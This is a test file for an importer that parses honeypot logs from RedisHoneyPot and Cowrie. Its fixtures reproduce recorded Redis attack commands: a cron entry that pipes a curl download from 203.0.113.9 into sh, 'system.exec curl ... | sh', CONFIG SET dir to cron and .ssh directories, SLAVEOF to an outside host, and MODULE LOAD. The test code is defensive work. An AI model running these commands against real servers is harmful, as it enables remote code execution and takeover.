import { describe, expect, test } from 'vitest';
import { importBytes } from './imports/in-memory.ts';

const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';
const lines = (...records: readonly unknown[]): string =>
  records.map((record) => `${JSON.stringify(record)}\n`).join('');

describe('the log of RedisHoneyPot', () => {
  const entry = (action: string, addr = '198.51.100.7:5555', time = '2021-04-10 05:53:00'): unknown => ({
    action,
    addr,
    level: 'info',
    msg: '',
    time,
  });

  test('is sessions from NewConnect to Closed, its times UTC', async () => {
    const seen = await importBytes(
      'redishoneypot',
      lines(
        entry('NewConnect'),
        entry('info'),
        entry('Closed', undefined, '2021-04-10 05:53:04'),
        entry('NewConnect'),
      ),
    );

    expect(seen.sessions).toBe(2);
    expect(seen.acts[0]?.time).toBe(Date.UTC(2021, 3, 10, 5, 53));
    expect(seen.of('session.closed')[0]).toMatchObject({ reason: 'visitor', commands: 1, ms: 4_000 });
  });

  test.for([
    [`set x ${CRON}`, 'redis.value', { key: 'x', value: CRON }],
    ['config set dir /var/spool/cron', 'redis.setting', { name: 'dir', value: '/var/spool/cron' }],
    ['SLAVEOF 203.0.113.9 8080', 'redis.replica-of', { host: '203.0.113.9', port: 8080 }],
    ['MODULE LOAD ./red2.so', 'redis.module', { path: './red2.so' }],
    ['eval return redis.call("ping") 0', 'redis.script', { body: 'return redis.call("ping")' }],
    ['system.exec curl http://203.0.113.9 | sh', 'shell.command', { line: 'curl http://203.0.113.9 | sh' }],
    ['Redis Cmd: flushall', 'redis.command', { name: 'flushall', args: [] }],
    ['set caf\u00e9 1', 'redis.value', { key: 'caf\u00c3\u00a9', value: '1' }],
  ] as const)('knows the words of %j', async ([action, type, expected]) => {
    const json = JSON.stringify(entry(action));

    const seen = await importBytes('redishoneypot', Buffer.from(`${json}\r\n`), 3);

    expect(seen.of(type)[0]).toMatchObject(expected);
  });

  test('tells where a dump goes that was set up in another connection of the same address', async () => {
    const seen = await importBytes(
      'redishoneypot',
      lines(
        entry('config set dir /root/.ssh', '[2001:db8::5]:1'),
        entry('save', '2001:db8::5:2'),
        entry('save'),
      ),
    );

    expect(seen.of('redis.save').map(({ dir }) => dir)).toEqual(['/root/.ssh', '']);
  });

  test('is read as Logstash passes it on, too; other sensors are counted', async () => {
    const hit = { type: 'Redishoneypot', action: 'info', src_ip: '198.51.100.7', src_port: '5555' };

    const seen = await importBytes(
      'redishoneypot',
      lines(
        { _source: { ...hit, '@timestamp': '2022-01-02T03:04:05.678Z' } },
        { type: 'Cowrie', action: 'x', src_ip: '198.51.100.7' },
      ),
    );

    expect(seen.acts[0]).toMatchObject({ time: Date.UTC(2022, 0, 2, 3, 4, 5, 678) });
    expect(seen.report).toMatchObject({ notRedis: 1, broken: 0 });
  });

  test('counts and locates what is broken', async () => {
    const text = `{"action":\n[1]\n\n${lines(entry('info'), entry('info', 'nobody'))}`;

    const seen = await importBytes('redishoneypot', text);

    expect(seen.report.places).toEqual([
      { unit: 1, why: 'it is not a JSON object' },
      { unit: 2, why: 'it is not a JSON object' },
      { unit: 5, why: 'it names no address' },
    ]);
    expect(seen.of('redis.command')).toHaveLength(1);
  });

  test('passes over a line that is longer than memory should hold', async () => {
    const text = `{"action":"${'x'.repeat(17_000_000)}"}\n${lines(entry('info'))}`;

    const seen = await importBytes('redishoneypot', text);

    expect(seen.report.places).toEqual([{ unit: 1, why: 'it is longer than 16 MiB' }]);
    expect(seen.of('redis.command')).toHaveLength(1);
  });
});

describe('lines in the shape of Cowrie', () => {
  const at = {
    src_ip: '198.51.100.7',
    src_port: 5,
    session: 'abc',
    timestamp: '2024-05-06T07:08:09.123456Z',
  };

  test('are kept together by their session', async () => {
    const seen = await importBytes(
      'cowrie',
      lines(
        { ...at, eventid: 'cowrie.session.connect', protocol: 'redis', dst_ip: '192.0.2.1', dst_port: 6379 },
        { ...at, eventid: 'redis.command', input: `SET x "${CRON.replaceAll('\n', '\\n')}"` },
        {
          ...at,
          eventid: 'redis.command',
          session: 'other',
          input: ['CONFIG', 'SET', 'dir', '/var/spool/cron'],
        },
        { session: 'abc', eventid: 'redis.command', command: 'slaveof', args: ['203.0.113.9', '80'] },
        { ...at, eventid: 'redis.login.failed', username: '', password: 'admin' },
        { session: 'abc', eventid: 'cowrie.session.closed', timestamp: '2024-05-06T07:08:19+00:00' },
      ),
    );

    expect(seen.sessions).toBe(2);
    expect(seen.of('session.opened')[0]?.local).toEqual({ address: '192.0.2.1', port: 6379 });
    expect(seen.of('redis.value')[0]?.value).toBe(CRON);
    expect(seen.of('redis.setting')[0]?.value).toBe('/var/spool/cron');
    expect(seen.of('redis.replica-of')[0]?.host).toBe('203.0.113.9');
    expect(seen.of('redis.login')[0]).toMatchObject({ password: 'admin', accepted: false });
    expect(seen.of('session.closed')[0]).toMatchObject({ reason: 'visitor', commands: 3 });
  });

  test('that are of a shell are not Redis, whatever words they use', async () => {
    const seen = await importBytes(
      'cowrie',
      lines(
        { ...at, eventid: 'cowrie.session.connect', protocol: 'ssh', dst_port: 22 },
        { ...at, eventid: 'cowrie.command.input', input: 'set x 1' },
        { ...at, eventid: 'command.input', input: 'uname -a' },
        { ...at, eventid: 'sensor.command', input: 'CONFIG SET dir /tmp' },
      ),
    );

    expect(seen.report).toMatchObject({ notRedis: 3, broken: 0 });
    expect(seen.of('redis.command').map(({ name }) => name)).toEqual(['config|set']);
  });
});
